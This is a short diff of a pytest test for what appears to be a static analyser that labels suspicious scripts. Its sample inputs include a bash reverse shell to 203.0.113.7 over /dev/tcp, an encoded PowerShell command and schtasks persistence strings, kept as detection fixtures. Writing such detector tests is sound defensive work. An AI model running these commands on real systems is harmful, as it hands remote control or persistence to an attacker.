@@ -104,6 +104,7 @@ async def test_an_overlay_is_measured(static: Analyse) -> None:
         pytest.param(b"powershell -nop -enc " + b"QQBB" * 20, "script-encoded-command", id="encoded"),
         pytest.param(b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\n", "script-reverse-shell", id="shell"),
         pytest.param("schtasks /create /tn x".encode("utf-16"), "script-persistence", id="utf-16"),
+        pytest.param(b"# Disk DescriptorFile\nschtasks /create /tn x", "script-persistence", id="mark of a disk"),
         pytest.param(b"\xff\xfe&cls\r\nschtasks /create /tn x", "script-persistence", id="mark of utf-16 before ascii"),
     ],
 )  # fmt: skip
